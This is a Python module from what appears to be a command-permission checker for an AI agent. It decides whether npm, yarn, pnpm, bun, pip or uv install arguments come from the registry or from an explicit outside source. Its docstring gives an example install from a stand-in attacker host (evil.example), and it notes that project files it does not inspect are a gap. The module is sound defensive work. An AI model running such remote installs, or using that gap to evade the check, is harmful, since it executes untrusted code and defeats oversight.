"""Where a package manager installs from: the registry, or a source a rule must name.

``npm install lodash@4`` fetches from the registry the project uses; ``npm install
https://evil.example/x.tgz``, ``git+https://…``, ``github:user/repo`` or ``user/repo`` fetch code from
anywhere, and their install scripts run. The same for ``pip install git+https://…``, a direct
reference (``x @ https://…``), an archive URL, and for the options that move the index
(``--registry``, ``--index-url``, ``--extra-index-url``, ``--find-links``). Such a word is *explicit*:
``Bash(npm install *)`` does not approve it, a rule that spells it out does. A local path (``.``,
``./pkg``, ``file:../x``, ``dist/x.whl``) is a path the path checks judge (inside the workspace it is
the project's own code, like a Makefile).

Not seen here (and said so in ``policies/README.md``): what the project's own files name
(``package.json``, ``requirements.txt``, ``.npmrc``), which the model can edit too.
"""

from __future__ import annotations

import re
from collections.abc import Sequence

from bot.shell.parse.syntax import Word
from bot.shell.paths.arguments import PathUse
from bot.shell.programs.facts import Explicit
from bot.shell.programs.getopt import long_name

# ----- npm, pnpm, yarn, bun (npm-package-arg's reading of a spec) -----------------------------------

_NPM_NAME = r"(?:@[A-Za-z0-9~][\w.~-]*/)?[A-Za-z0-9~][\w.~-]*"
#: A version, a range or a dist-tag: never ``:`` (a protocol), ``/`` (a path or user/repo) or ``#``.
_NPM_RANGE = r"[\w.^~<>=|*+ !-]*"
_NPM_REGISTRY = re.compile(rf"^{_NPM_NAME}(?:@{_NPM_RANGE}|@npm:{_NPM_NAME}(?:@{_NPM_RANGE})?)?$")
#: npm-package-arg reads these as files, whatever else the word looks like.
_ARCHIVE = re.compile(r"\.(?:tgz|tar\.gz|tar|whl|zip|tar\.bz2|tar\.xz)$", re.I)
_LOCAL = re.compile(r"^(?:\.{1,2}(?:/|$)|/|~/|~$|[A-Za-z]:[\\/])")
#: Install options that take a value (``--tag next``), so the value is not read as a package.
_NPM_VALUE_OPTIONS = frozenset(
    {
        "--tag",
        "--save-prefix",
        "--registry",
        "--workspace",
        "-w",
        "--omit",
        "--include",
        "--install-strategy",
        "--before",
        "--loglevel",
        "--location",
        "-L",
        "--prefix",
        "-C",
        "--cache",
        "--userconfig",
        "--globalconfig",
        "--dir",
        "--cwd",
        "--filter",
        "-F",
        "--network-timeout",
        "--modules-folder",
        "--cache-folder",
        "--store-dir",
        "--reporter",
        "--network-concurrency",
        "--mutex",
        "--otp",
    }
)
#: Options naming where packages come from.
_NPM_SOURCE_OPTIONS = frozenset({"--registry"})
#: Flags, so that an abbreviation resolves to them (``--save`` is not ``--save-prefix``).
_NPM_NAMES = _NPM_VALUE_OPTIONS | frozenset(
    {
        "--save",
        "--save-dev",
        "--save-optional",
        "--save-peer",
        "--save-exact",
        "--save-bundle",
        "--no-save",
        "--global",
        "--force",
        "--dry-run",
        "--ignore-scripts",
        "--legacy-peer-deps",
        "--strict-peer-deps",
        "--production",
        "--frozen-lockfile",
        "--prefer-offline",
        "--prefer-online",
        "--offline",
        "--no-audit",
        "--no-fund",
        "--audit",
        "--fund",
        "--workspaces",
        "--include-workspace-root",
        "--package-lock-only",
        "--no-package-lock",
        "--install-links",
        "--foreground-scripts",
        "--exact",
        "--dev",
        "--optional",
        "--peer",
        "--latest",
        "--recursive",
        "--silent",
        "--verbose",
        "--quiet",
    }
)


def npm_sources(argv: Sequence[Word], values: Sequence[str], sub: int) -> tuple[Explicit, list[PathUse]]:
    """The package words of ``npm install …`` (``values[sub]`` is the subcommand) that name a source
    outside the registry (explicit), and the local paths among them (for the path checks)."""
    program = values[0].rsplit("/", 1)[-1]
    explicit: Explicit = []
    paths: list[PathUse] = []
    k = sub + 1
    while k < len(values):
        value = values[k]
        if value == "--":
            break
        if value.startswith("-") and value != "-":
            written, eq, _ = value.partition("=")
            name = long_name(written, _NPM_NAMES) or written
            if name in _NPM_SOURCE_OPTIONS:
                explicit.append((k, f"{program} {name} installs from the registry it names"))
            k += 1 if eq or name not in _NPM_VALUE_OPTIONS else 2
            continue
        spec = value
        path = spec.removeprefix("file:") if spec.startswith("file:") and not spec.startswith("file://") else None
        if path is None and (_LOCAL.match(spec) or (_ARCHIVE.search(spec) and "://" not in spec and ":" not in spec)):
            path = spec
        if path is not None:
            paths.append(PathUse(k, path, "read", argv[k]))
        elif not _NPM_REGISTRY.match(spec):
            explicit.append(
                (
                    k,
                    f"{program} {values[sub]} {spec} installs code from outside the registry (a URL, a "
                    "git repository, a tarball); only a rule that names it approves it",
                )
            )
        k += 1
    return explicit, paths


# ----- pip, uv (PEP 508 requirements, pip's URL and path forms) --------------------------------------

#: A requirement by name: ``name``, ``name[extra]``, then version specifiers and markers; a direct
#: reference (``@``), a scheme or a path separator make it something else.
_PEP508_NAME = re.compile(r"^[A-Za-z0-9](?:[A-Za-z0-9._-]*[A-Za-z0-9])?(?:\s*\[[A-Za-z0-9._,\s-]*\])?")
_NOT_REGISTRY = re.compile(r"[@/\\]|:(?!all:)")
#: pip's and uv's install options that take a value (optparse and clap read ``--opt value``).
_PIP_VALUE_OPTIONS = frozenset(
    {
        "--requirement",
        "--constraint",
        "--editable",
        "--target",
        "--platform",
        "--python-version",
        "--implementation",
        "--abi",
        "--root",
        "--prefix",
        "--src",
        "--upgrade-strategy",
        "--config-settings",
        "--global-option",
        "--build-option",
        "--no-binary",
        "--only-binary",
        "--progress-bar",
        "--root-user-action",
        "--report",
        "--index-url",
        "--extra-index-url",
        "--find-links",
        "--trusted-host",
        "--log",
        "--cache-dir",
        "--cert",
        "--client-cert",
        "--proxy",
        "--retries",
        "--timeout",
        "--exists-action",
        "--keyring-provider",
        "--python",
        "--use-feature",
        "--use-deprecated",
        "--resume-retries",
        "--group",
        "--dest",
        "--wheel-dir",
        "--index",
        "--default-index",
        "--index-strategy",
        "--override",
        "--build-constraint",
        "--directory",
        "--project",
        "--extra",
        "--optional",
        "--package",
        "--rev",
        "--tag",
        "--branch",
        "--script",
        "--marker",
        "--only-group",
        "--no-group",
        "--no-install-package",
        "--upgrade-package",
        "--reinstall-package",
        "--python-platform",
        "--exclude-newer",
        "--resolution",
        "--prerelease",
        "--link-mode",
        "--refresh-package",
        "--config-file",
        "--no-binary-package",
        "--no-build-package",
        "--color",
        "--allow-insecure-host",
    }
)
_PIP_VALUE_LETTERS = frozenset("rceCitfdwpbP")
#: Options naming where packages come from: a URL is explicit, a local folder a path to check.
_PIP_SOURCE_OPTIONS = frozenset({"--index-url", "--extra-index-url", "--find-links", "--index", "--default-index"})
_PIP_LONG_NAMES = _PIP_VALUE_OPTIONS | frozenset(
    {
        "--upgrade",
        "--user",
        "--no-deps",
        "--no-index",
        "--pre",
        "--force-reinstall",
        "--ignore-installed",
        "--quiet",
        "--verbose",
        "--no-build-isolation",
        "--dry-run",
        "--require-hashes",
        "--no-cache-dir",
        "--system",
    }
)
_URL = re.compile(r"^[A-Za-z][A-Za-z0-9+.-]*:")


def pip_sources(argv: Sequence[Word], values: Sequence[str], sub: int) -> tuple[Explicit, list[PathUse]]:
    """The requirement words of ``pip install …`` / ``uv pip install …`` / ``uv add …`` (``values[sub]``
    is the subcommand) and of ``-e``, and the index options, that name a source outside the
    registry (explicit); the local paths among them (for the path checks)."""
    tool = "uv" if values[0].rsplit("/", 1)[-1].startswith("uv") else "pip"
    explicit: Explicit = []
    paths: list[PathUse] = []

    def judge(at: int, spec: str, what: str) -> None:
        if what == "index":  # an index or a links page: a URL, or else a local folder
            local = None if _URL.match(spec) and not spec.startswith("file:") else spec.removeprefix("file:")
        else:
            local = _local_path(spec)
            if local is None and _registry_requirement(spec):
                return
        if local is not None and not local.startswith("//"):
            paths.append(PathUse(at, local, "read", argv[at]))
        else:
            explicit.append(
                (
                    at,
                    f"{tool} {values[sub]} {spec} installs code from outside the registry (a URL, a "
                    "git repository, an archive, another index); only a rule that names it approves it",
                )
            )

    k = sub + 1
    while k < len(values):
        value = values[k]
        if value == "--":
            break
        if value.startswith("--"):
            written, eq, attached = value.partition("=")
            name = long_name(written, _PIP_LONG_NAMES) or written
            target, index = (
                (attached, k)
                if eq
                else ((values[k + 1], k + 1) if name in _PIP_VALUE_OPTIONS and k + 1 < len(values) else (None, None))
            )
            if target is not None and index is not None:
                if name in _PIP_SOURCE_OPTIONS:
                    judge(index, target, "index")
                elif name == "--editable":
                    judge(index, target, "requirement")
                elif name in ("--requirement", "--constraint"):
                    _remote_list(index, target, explicit, tool, values[sub])
            k += 1 if eq or name not in _PIP_VALUE_OPTIONS else 2
            continue
        if value.startswith("-") and value != "-":
            letter = next((c for c in value[1:] if c in _PIP_VALUE_LETTERS), None)
            if letter is None:
                k += 1
                continue
            rest = value[value.index(letter) + 1 :]
            target, index = (rest, k) if rest else ((values[k + 1], k + 1) if k + 1 < len(values) else (None, None))
            if target is not None and index is not None:
                if letter in "if":
                    judge(index, target, "index")
                elif letter == "e":
                    judge(index, target, "requirement")
                elif letter in "rc":
                    _remote_list(index, target, explicit, tool, values[sub])
            k += 1 if rest else 2
            continue
        judge(k, value, "requirement")
        k += 1
    return explicit, paths


def _remote_list(at: int, target: str, explicit: Explicit, tool: str, command: str) -> None:
    """``pip install -r https://…``: a requirements file from elsewhere can name any index, URL or
    git repository (a local one is the project's own, read by the path checks)."""
    if _URL.match(target) and not target.lower().startswith("file:") and not re.match(r"^[A-Za-z]:[\\/]", target):
        explicit.append(
            (at, f"{tool} {command} {target}: a requirements file from elsewhere can name any source to install from")
        )


def _registry_requirement(spec: str) -> bool:
    """``name``, ``name[extra]==1.0; python_version < "3.12"``: a requirement the index resolves."""
    m = _PEP508_NAME.match(spec)
    return m is not None and not _NOT_REGISTRY.search(spec[m.end() :])


def _local_path(spec: str) -> str | None:
    """The path a requirement or an index option names when it is local (``.``, ``./x``, ``.[dev]``,
    ``dist/x.whl``, ``file:../x``), else ``None``."""
    if spec.startswith("file:") and not spec.startswith("file://"):
        spec = spec[5:]
    elif _URL.match(spec) and not re.match(r"^[A-Za-z]:[\\/]", spec):
        return None
    if "@" in spec or not spec:
        return None
    bare = re.sub(r"\[[^\]]*\]$", "", spec)
    if _LOCAL.match(bare) or "/" in bare or "\\" in bare or _ARCHIVE.search(bare):
        return bare
    return None
